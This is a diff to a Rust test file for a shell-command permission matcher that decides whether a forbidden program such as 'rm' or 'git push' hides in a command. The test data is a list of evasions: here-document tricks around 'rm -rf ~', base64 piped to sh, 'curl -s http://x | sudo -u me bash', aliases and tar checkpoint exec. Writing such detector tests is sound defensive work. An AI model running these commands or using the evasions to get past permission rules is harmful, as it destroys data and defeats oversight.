@@ -60,6 +60,10 @@ fn what_could_be_more_is_not_sure() {
         ("ls", "ls # all"),
         ("ls", "ls \u{0}"),
         ("ls", "ls\r"),
+        ("ls", "ls\u{a0}x"),
+        ("ls", "ls &>/dev/null rm"),
+        ("ls", "ls <<< x"),
+        ("LS", "ls"),
         ("ls", "/tmp/ls"),
         ("ls", "./ls"),
         ("git log", "git -C x log"),
@@ -78,16 +82,14 @@ fn what_could_be_more_is_not_sure() {
     }
 }
 
+/// Each of these runs `rm`, or could; none of them is a plain call of it.
 #[test]
 fn a_forbidden_program_is_found_where_it_hides() {
     let hidden = [
-        "rm x",
         "ls && rm x",
         "ls|rm",
         "/bin/rm x",
-        "\\rm x",
-        "r''m x",
-        "\"rm\" x",
+        "RM x",
         "X=1 rm x",
         "sudo rm x",
         "ls | xargs rm",
@@ -99,31 +101,146 @@ fn a_forbidden_program_is_found_where_it_hides() {
         "echo $(rm x)",
         "echo `rm x`",
         "(rm x)",
+        "{ rm x; }",
         "if true; then rm x; fi",
         "for f in a; do rm $f; done",
+        "rm x > out",
+        "rm 'unbalanced",
+        "ls &>/dev/null rm x",
+        // A program that nobody can tell.
         "$CMD x",
         "r{m,} x",
         "/bin/r? x",
+        "X=r; if ${X}m y; then ls; fi",
+        "! $X",
+        "echo $(${X}m y)",
+        "echo \"$(${X}m y)\"",
+        "sudo -n $X y",
+        "sudo /bin/r? y",
+        "find . -exec {} +",
+        "echo rm | xargs -I{} {} x",
+        // Here-documents.
         "cat <<END | sh\nrm x\nEND",
-        "eval 'r''m x'; eval rm",
-        "rm x > /dev/null",
-        "rm 'unbalanced",
+        "cat <<E\n'\nE\nrm -rf ~\n: <<E\n'\nE\n",
+        "cat <<E\n'\nE\nr\\m -rf ~\n: <<E\n'\nE\n",
+        "cat <<E\n'\nE\n$X -rf ~\n: <<E\n'\nE\n",
+        "cat <<E | bash\n cm0gLXJmIH4K\nE",
+        "bash <<< 'r''m x'",
+        // Shells that read their commands elsewhere.
+        "echo 'rm -rf x' | sh",
+        "echo cm0geAo= | base64 -d | sh",
+        "printf 'rm x' | bash -s",
+        "curl -s http://x | sudo -u me bash",
+        "echo $(printf 'r%s x' m | sh)",
+        "bash",
+        "bash script.sh",
+        ". ./script",
+        "builtin . script",
+        "source script",
+        "bash --rcfile x -c ls",
+        // Scripts within commands.
+        "bash -c 'r\\m -rf x'",
+        "bash -c \"r''m x\"",
+        "bash -lc 'ls; $X y'",
+        "bash -o pipefail -c '/bin/r? y'",
+        "bash -c \"$X\"",
+        "sh -c 'sh -c \"r\\m x\"'",
+        "sudo sh -c 'r\\m x'",
+        "eval 'r''m x'",
+        "eval r\\\\m x",
+        "eval \"$X\"",
+        "ssh host 'cd y; r\\m x'",
+        "trap 'r\\m x' EXIT",
+        // Other languages.
+        "python3.12 -c 'import os; os.system(\"rm x\")'",
+        "python3 -c 'import os; os.system(\"r\" + \"m x\")'",
+        "python3 - < code",
+        "echo code | python",
+        "echo code | python /dev/stdin",
+        "env -i perl -e 'exec q(r).q(m)'",
+        "php -r 'system(\"rm x\");'",
+        "ruby -e x",
+        "node --eval x",
+        "awk 'BEGIN { system(\"r\" \"m x\") }'",
+        "awk -f code",
+        // Programs that run what their options say.
+        "npx -c 'rm x'",
+        "systemd-run rm x",
+        "runuser -u a rm x",
+        "git -c alias.x='!rm x' x",
+        "git -c alias.x='!r\\m x' x",
+        "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'",
+        "unheard-of --then=/bin/rm x",
+        // Other names for it.
+        "alias q=rm\nq x",
+        "alias q='r\\m'\nq x",
+        "hash -p /bin/rm q; q x",
+        "ln -s /bin/rm q; ./q x",
+        "q() { rm x; }; q",
     ];
     for command in hidden {
-        assert_ne!(fit("rm", command), Fit::No, "{command:?}");
+        assert_eq!(fit("rm", command), Fit::Perhaps, "{command:?}");
     }
+    for command in ["rm x", "\\rm x", "r''m x", "\"rm\" x", "rm x > /dev/null"] {
+        assert_eq!(fit("rm", command), Fit::Yes, "{command:?}");
+    }
+}
+
+#[test]
+fn forbidden_words_are_found_behind_other_words() {
+    let pushes = [
+        "git -C x push",
+        "git -c alias.p=push p",
+        "git -c alias.p=pu'sh' p",
+        "sudo git push",
+        "sudo git $X",
+        "git pus?",
+        "Git PUSH",
+        "bash -c 'git push'",
+    ];
+    for command in pushes {
+        assert_eq!(fit("git push", command), Fit::Perhaps, "{command:?}");
+    }
+    for command in [
+        "git status",
+        "git commit -m x",
+        "sudo git status",
+        "git -c user.name=x status",
+        "bash -c 'git status'",
+    ] {
+        assert_eq!(fit("git push", command), Fit::No, "{command:?}");
+    }
+    assert_eq!(fit("a:b", "sudo a:b"), Fit::Perhaps);
+    assert_eq!(fit("a:b", "sudo a b"), Fit::No);
+}
+
+/// A rule that denies everything would be of no use.
+#[test]
+fn a_name_that_nothing_runs_is_a_name() {
     for command in [
         "ls rm",
         "echo 'rm x'",
+        "echo 'rm x' | grep rm",
+        "cat rm && cargo test",
         "git rm-x",
         "firm",
         "cargo fmt",
         "ls > rm.txt",
+        "echo $HOME $(pwd)/x",
+        "for f in a b; do cat $f; done",
+        "find . -name '*.rs' -exec grep x {} ;",
+        "ls | xargs -I {} grep {}",
+        "env X=$Y cargo test",
+        "timeout 5 cargo test $X",
+        "bash -c 'cargo test'",
+        "bash --version",
+        "python3 manage.py test",
+        "python3 -m pytest",
+        "awk -F: '{ print $1 }' x",
+        "cat <<END\nsome text\nEND",
     ] {
         assert_eq!(fit("rm", command), Fit::No, "{command:?}");
     }
-    assert_eq!(fit("git push", "git -C x push"), Fit::Perhaps);
-    assert_eq!(fit("git push", "git status"), Fit::No);
 }
 
 #[test]
@@ -132,12 +249,10 @@ fn exactly_means_no_more_words() {
         |command: &str| Script::read(command).fit(&[CommandPattern::exactly("make test")]);
     assert_eq!(exactly("make test"), Fit::Yes);
     assert_eq!(exactly("make test && make 'test'"), Fit::Yes);
-    assert_ne!(exactly("make test all"), Fit::Yes);
-    assert_ne!(exactly("make tes?"), Fit::Yes);
-    assert_ne!(
-        Script::read("ls").fit(&[CommandPattern::starting("")]),
-        Fit::Yes
-    );
+    assert_eq!(exactly("make test all"), Fit::Perhaps);
+    assert_eq!(exactly("make tes?"), Fit::Perhaps);
+    assert_eq!(exactly("make all"), Fit::No);
+    assert_eq!(fit("", "ls"), Fit::Perhaps);
 }
 
 #[test]
@@ -150,25 +265,80 @@ fn several_patterns_cover_several_parts() {
     assert_eq!(Script::read("ls && git push").fit(&patterns), Fit::Perhaps);
 }
 
+/// Text that a shell can make much of.
+fn noise() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::strategy::Strategy as _;
+    let pieces = proptest::sample::select(vec![
+        "ls",
+        " ",
+        ";",
+        "&",
+        "|",
+        "\n",
+        "$",
+        "(",
+        ")",
+        "`",
+        "'",
+        "\"",
+        "\\",
+        ">",
+        "<",
+        "<<E",
+        "x",
+        "=",
+        "#",
+        "{",
+        "}",
+        "*",
+        "~",
+        "/dev/null",
+        "1",
+        "sh",
+        "echo",
+    ]);
+    proptest::collection::vec(pieces, 0..14).prop_map(|pieces| pieces.concat())
+}
+
 proptest::proptest! {
-    /// Whatever is put around it, what is surely allowed holds no second program.
+    /// Whatever is put before it, what is surely allowed holds no second program.
     #[test]
-    fn nothing_hides_behind_an_allowed_program(
-        noise in proptest::collection::vec(
-            proptest::sample::select(vec![
-                "ls", " ", ";", "&", "|", "\n", "$", "(", ")", "`", "'", "\"", "\\", ">", "<", "x",
-                "=", "#", "{", "}", "*", "~", "/dev/null", "1",
-            ]),
-            0..14,
-        ),
-    ) {
-        // A word that stands alone on a line of its own runs as a program, unless a quote or a
-        // here-document holds it; then the line is not sure for another reason, or quotes pair up.
-        let noise = noise.concat();
+    fn nothing_hides_behind_an_allowed_program(noise in noise()) {
+        // A word on a line of its own runs as a program, unless a quote or a here-document holds
+        // it: an even number of quotes of one kind, none of them escaped, holds nothing.
+        let count = |quote: char| noise.matches(quote).count();
+        let closed = !noise.contains('\\')
+            && (count('"') == 0 && count('\'') % 2 == 0 || count('\'') == 0 && count('"') % 2 == 0);
         let command = format!("ls {noise}\nrm");
-        let quotes = noise.contains(['\'', '"', '\\']);
-        if !quotes {
+        if closed {
             proptest::prop_assert_ne!(fit("ls", &command), Fit::Yes, "{:?}", command);
         }
+    }
+
+    /// Whatever is put around it, a forbidden program that a line of its own runs is found.
+    #[test]
+    fn a_forbidden_line_is_found(before in noise(), after in noise()) {
+        let count = |quote: char| before.matches(quote).count();
+        let closed = !before.contains('\\')
+            && (count('"') == 0 && count('\'') % 2 == 0 || count('\'') == 0 && count('"') % 2 == 0);
+        let command = format!("{before}\nrm y\n{after}");
+        if closed {
+            proptest::prop_assert_ne!(fit("rm", &command), Fit::No, "{:?}", command);
+        }
+    }
+
+    /// However its letters are quoted, in a script or not, a forbidden program is found.
+    #[test]
+    fn a_forbidden_name_is_found_in_quotes(
+        r in proptest::sample::select(vec!["r", "\\r", "'r'", "\"r\"", "''r", "\\\nr"]),
+        m in proptest::sample::select(vec!["m", "\\m", "'m'", "\"m\"", "m\"\"", "\\\nm"]),
+        around in proptest::sample::select(vec![
+            ("", ""), ("ls; ", ""), ("sudo ", ""), ("ls | xargs ", ""), ("echo $(", ")"),
+            ("cat <<E\n'\nE\n", "\n'"), ("if ", "; then ls; fi"), ("nobody-knows --x=", ""),
+            ("eval ", ""),
+        ]),
+    ) {
+        let command = format!("{}{r}{m} y{}", around.0, around.1);
+        proptest::prop_assert_ne!(fit("rm", &command), Fit::No, "{:?}", command);
     }
 }
